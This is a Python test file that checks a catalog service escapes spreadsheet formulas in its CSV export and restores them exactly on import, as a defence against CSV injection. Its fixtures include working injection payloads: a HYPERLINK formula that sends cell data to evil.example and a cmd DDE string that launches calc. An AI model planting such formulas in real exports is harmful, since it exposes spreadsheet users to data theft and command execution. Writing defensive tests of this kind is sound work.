"""The CSV export cannot carry a spreadsheet formula (issue 17, finding 13, OWASP CSV
injection): a cell starting with = + - @ tab or carriage return is written after an apostrophe,
and the import takes the apostrophe off again, so export → import changes nothing."""

from __future__ import annotations

import csv
import io
import json
import uuid

from sqlalchemy.ext.asyncio import AsyncSession

from catalog_service import importer
from tests.catalog.support import rich_item

HYPERLINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"点击查看办理指南")'


async def test_formula_cells_are_exported_as_text_and_reimport_unchanged(
    db_session: AsyncSession,
) -> None:
    code = f"CSVI-{uuid.uuid4().hex[:8]}"
    item = rich_item(
        code,
        name=HYPERLINK,
        short_name="@SUM(1+1)",
        conditions="-2+3 申请人年满80周岁",
        legal_basis="+cmd|' /C calc'!A0",
        keywords=["=1+1", "津贴"],
        # Already an apostrophe before an equals sign: must survive as typed.
        department="'=东莞市民政局",
    )
    await importer.import_items(db_session, data=json.dumps([item]), fmt="json")

    exported = await importer.export_items(db_session, fmt="csv")
    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    [row] = [r for r in rows if r["implementing_code"] == code]
    assert row["name"] == "'" + HYPERLINK
    assert row["short_name"] == "'@SUM(1+1)"
    assert row["conditions"] == "'-2+3 申请人年满80周岁"
    assert row["legal_basis"] == "'+cmd|' /C calc'!A0"
    assert row["keywords"] == "'=1+1;津贴"
    assert row["department"] == "''=东莞市民政局"
    assert row["catalog_code"] == "000107001000"  # other cells untouched
    # No cell of the whole export starts a formula.
    for cells in rows:
        for value in cells.values():
            assert not value or value[0] not in "=+-@\t\r"

    report = await importer.import_items(db_session, data=exported, fmt="csv")
    assert code in report.unchanged_codes and (report.created, report.updated) == (0, 0)
    assert await importer.export_items(db_session, fmt="csv") == exported


def test_escaping_is_undone_exactly() -> None:
    for value in ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=x", "''+x", "'a", "a=b", "", "'"]:
        assert importer.unescape_formula(importer.escape_formula(value)) == value
    assert importer.escape_formula("'a") == "'a" and importer.unescape_formula("'a") == "'a"
